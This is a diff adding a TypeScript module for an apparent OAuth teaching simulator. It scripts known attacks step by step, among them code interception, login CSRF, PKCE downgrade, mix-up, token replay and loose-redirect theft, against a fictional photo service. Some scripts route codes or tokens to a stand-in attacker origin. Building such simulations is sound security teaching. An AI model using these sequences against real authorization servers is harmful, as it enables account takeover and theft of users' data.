@@ -1,0 +1,301 @@
+/** Known attacks, played by hand: where to stand and what to do, in a grant that knows nothing of the attack. */
+import { EVIL_ORIGIN } from "@/lib/cast/attacked";
+import { API, CLIENT_ID, CLIENT_ORIGIN, ISSUER, SCOPE } from "@/lib/cast/cast";
+import type { Afterwards, Draft, FreePlay, Intervention, OnTheWay, PositionId } from "@/lib/flow/intervention";
+import type { Levels } from "@/lib/vocabulary/controls";
+
+export interface ByHand {
+	/** The attack that it repeats. */
+	readonly attack: string;
+	/** The way of that attack, where it is not the usual one. */
+	readonly variant?: string;
+	/** A level at which the script goes another way, which stands here on its own. */
+	readonly elsewhere?: Partial<Levels>;
+	/** What both begin with, where that is not the attack's own weakest. */
+	readonly levels?: Partial<Levels>;
+	/** The grant in which it is played (`grants.ts`). */
+	readonly grant: string;
+	readonly free: FreePlay;
+	/** What the attack is after. */
+	readonly goal: "reads" | "keeps" | "planted";
+}
+
+/** A verifier that the attacker makes up, and its challenge. */
+const VERIFIER = "the-attackers-own-verifier-with-43-characters";
+const CHALLENGE = `{s256:${VERIFIER}}`;
+
+type Pairs = Draft["query"];
+type Act = readonly [at: string, act: OnTheWay | Afterwards];
+
+const draft = (method: string, target: string, parts: Partial<Draft> = {}): Draft => ({
+	method,
+	target,
+	query: [],
+	header: [],
+	form: [],
+	body: "",
+	...parts,
+});
+
+const browse = (target: string, query: Pairs = []): Afterwards => ({
+	do: "send",
+	from: "browser",
+	draft: draft("GET", target, { query }),
+});
+const post = (target: string, form: Pairs): Afterwards => ({
+	do: "send",
+	from: "program",
+	draft: draft("POST", target, { form }),
+});
+const callApi = (token: string): Afterwards => ({
+	do: "send",
+	from: "program",
+	draft: draft("GET", `${API}/photos`, { header: [["Authorization", `Bearer ${token}`]] }),
+});
+const copy = (of: "request" | "answer"): OnTheWay => ({ do: "copy", of });
+
+const redeem = (code: string, redirectUri: string, verifier?: string): Afterwards =>
+	post(`${ISSUER}/token`, [
+		["grant_type", "authorization_code"],
+		["code", code],
+		["redirect_uri", redirectUri],
+		["client_id", CLIENT_ID],
+		...(verifier === undefined ? [] : ([["code_verifier", verifier]] as const)),
+	]);
+
+const refresh = (token: string): Afterwards =>
+	post(`${ISSUER}/token`, [
+		["grant_type", "refresh_token"],
+		["refresh_token", token],
+		["client_id", CLIENT_ID],
+	]);
+
+/** Interventions are numbered as they stand. */
+const play = (positions: readonly PositionId[], ...acts: readonly Act[]): FreePlay => ({
+	positions,
+	interventions: acts.map(([at, act], i) => ({ id: i + 1, at, ...act }) as Intervention),
+});
+
+const CALLBACK = `${CLIENT_ORIGIN}/cb`;
+
+/** The attacker signs in as Mallory at the client, and stops before her own answer: `{next}` is its address then. */
+const mallorysCode = (at: string, ask: Afterwards = browse("{next}")): readonly Act[] => [
+	[at, browse(`${CLIENT_ORIGIN}/connect`)],
+	["x1", ask],
+	[
+		"x2",
+		{
+			do: "submit",
+			fields: [
+				["username", "mallory"],
+				["password", "{password.2}"],
+			],
+		},
+	],
+	["x3", browse("{next}")],
+	["x4", { do: "submit", fields: [["decision", "allow"]] }],
+];
+
+/** Ada begins at the client with the attacker's server, which she takes for any other. */
+const lureToOwnServer: Afterwards = { do: "lure", url: `${CLIENT_ORIGIN}/connect?server=${new URL(EVIL_ORIGIN).host}` };
+
+/** The attacker's server sends her on to the honest one, with the challenge that it wants to be in the request. */
+const sendOn = (state: string, challenge: string): OnTheWay => ({
+	do: "answer",
+	status: 303,
+	location: `${ISSUER}/authorize?response_type=code&client_id=${CLIENT_ID}&redirect_uri=${encodeURIComponent(CALLBACK)}&scope=${SCOPE}&state=${state}&code_challenge=${challenge}&code_challenge_method=S256&resource=${encodeURIComponent(API)}`,
+	body: "",
+});
+
+export const byHand: readonly ByHand[] = [
+	{
+		attack: "code-interception",
+		grant: "app",
+		goal: "reads",
+		free: play(
+			["scheme"],
+			["4.0", copy("request")],
+			["4.0", redeem("{code}", "example.photos:/cb")],
+			["x2", callApi("{access_token}")],
+		),
+	},
+	{
+		attack: "code-interception",
+		variant: "reads-request",
+		grant: "app",
+		goal: "reads",
+		free: play(
+			["scheme", "request"],
+			["0.0", copy("request")],
+			["4.0", copy("request")],
+			["4.0", redeem("{code}", "example.photos:/cb", "{code_challenge}")],
+			["x3", callApi("{access_token}")],
+		),
+	},
+	{
+		attack: "login-csrf",
+		grant: "code-pkce",
+		goal: "planted",
+		free: play(["site"], ...mallorysCode("2.1"), ["x5", { do: "lure", url: "{next}" }]),
+	},
+	{
+		attack: "login-csrf",
+		variant: "no-challenge",
+		grant: "code-pkce",
+		goal: "planted",
+		free: play(
+			["site"],
+			...mallorysCode(
+				"2.1",
+				browse(`${ISSUER}/authorize`, [
+					["response_type", "code"],
+					["client_id", CLIENT_ID],
+					["redirect_uri", CALLBACK],
+					["scope", SCOPE],
+					["state", "{state.2}"],
+					["resource", API],
+				]),
+			),
+			["x5", { do: "lure", url: "{next}" }],
+		),
+	},
+	{
+		attack: "pkce-downgrade",
+		grant: "code-pkce",
+		goal: "planted",
+		free: play(
+			["site"],
+			...mallorysCode(
+				"2.1",
+				browse(`${ISSUER}/authorize`, [
+					["response_type", "code"],
+					["client_id", CLIENT_ID],
+					["redirect_uri", CALLBACK],
+					["scope", SCOPE],
+					["state", "{state.2}"],
+					["resource", API],
+				]),
+			),
+			["x5", { do: "lure", url: "{next}" }],
+		),
+	},
+	{
+		attack: "mix-up",
+		elsewhere: { clientType: "confidential" },
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["site", "server"],
+			["7.0", lureToOwnServer],
+			["x1.1", sendOn("{state.2}", "{code_challenge.2}")],
+			["x1", redeem("{code.2}", CALLBACK, "{code_verifier.2}")],
+			["x3", callApi("{newest:access_token}")],
+		),
+	},
+	{
+		// The code of a confidential client is of no use but at that client: in a session of the attacker's own.
+		attack: "mix-up",
+		levels: { clientType: "confidential" },
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["site", "server"],
+			["7.0", browse(`${CLIENT_ORIGIN}/connect`)],
+			["7.0", lureToOwnServer],
+			["x2.1", sendOn("{newest:state}", "{code_challenge.2}")],
+			[
+				"x2",
+				browse(CALLBACK, [
+					["code", "{newest:code}"],
+					["state", "{state.2}"],
+					["iss", ISSUER],
+				]),
+			],
+		),
+	},
+	{
+		attack: "refresh-replay",
+		levels: { exp: "on" },
+		grant: "refresh",
+		goal: "keeps",
+		// The token's own life is over by then, so that only what the attacker renewed can open anything.
+		free: play(
+			["log"],
+			["0.0", copy("answer")],
+			["2.0", refresh("{refresh_token}")],
+			["x2", callApi("{newest:access_token}")],
+			["3.0", refresh("{newest:refresh_token}")],
+			["3.0", { do: "wait", seconds: 310 }],
+			["3.0", refresh("{newest:refresh_token}")],
+		),
+	},
+	{
+		attack: "code-injection",
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["redirect"],
+			["3.0", copy("answer")],
+			["3.0", browse(`${CLIENT_ORIGIN}/connect`)],
+			[
+				"x2",
+				browse(CALLBACK, [
+					["code", "{code}"],
+					["state", "{state.2}"],
+					["iss", ISSUER],
+				]),
+			],
+		),
+	},
+	{
+		attack: "code-replay",
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["redirect"],
+			["3.0", copy("answer")],
+			["7.0", redeem("{code}", CALLBACK)],
+			["x2", callApi("{access_token}")],
+		),
+	},
+	{
+		attack: "loose-redirect",
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["site"],
+			[
+				"0.0",
+				{
+					do: "lure",
+					url: `${ISSUER}/authorize?response_type=code&client_id=${CLIENT_ID}&redirect_uri=${encodeURIComponent(`${EVIL_ORIGIN}/.photos.example/cb`)}&scope=${SCOPE}&code_challenge=${CHALLENGE}&code_challenge_method=S256`,
+				},
+			],
+			["x1", redeem("{code}", `${EVIL_ORIGIN}/.photos.example/cb`, VERIFIER)],
+			["x2", callApi("{access_token}")],
+		),
+	},
+	{
+		attack: "counterfeit-api",
+		grant: "code-pkce",
+		goal: "reads",
+		free: play(
+			["site", "api"],
+			["7.0", { do: "lure", url: `${CLIENT_ORIGIN}/connect?api=${encodeURIComponent(EVIL_ORIGIN)}` }],
+			["x1", callApi("{access_token}")],
+		),
+	},
+	{
+		attack: "stolen-token",
+		grant: "dpop",
+		goal: "reads",
+		// Where the server wants a nonce, the call is the fourth exchange. A copy of its answer would be the photos.
+		free: play(
+			["log"],
+			["2.0", copy("request")],
+			["2.0", callApi("{newest:access_token}")],
+			["4.0", copy("request")],
+			["4.0", callApi("{newest:access_token}")],
+		),
+	},
+];
